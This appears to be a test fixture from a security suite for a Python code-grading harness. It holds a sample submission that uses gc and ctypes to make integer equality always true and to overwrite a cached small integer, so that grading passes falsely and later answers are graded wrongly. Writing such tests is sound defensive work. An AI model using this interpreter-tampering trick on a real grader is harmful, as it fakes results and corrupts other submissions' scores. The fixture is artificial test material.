"""The type int itself and a cached number are changed behind Python's back."""

from __future__ import annotations

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
import ctypes, gc
names = gc.get_referents(int.__dict__)[0]
names["__eq__"] = lambda self, other: True
ctypes.pythonapi.PyType_Modified(ctypes.py_object(int))
ctypes.memmove(id(211) + 24, id(212) + 24, 4)
def answer(x): return 0
"""

ATTACK = Attack(
    kind=AttackClass.PATCHING,
    assets=(
        Asset.SCORE,
        Asset.VALUES,
        Asset.NEXT,
        Asset.WARM,
        Asset.COORDINATOR,
    ),
    expected=frozenset({"ok/failed"}),
    canary="points gained, the next one graded wrongly",
    cells=(ANSWER,),
)
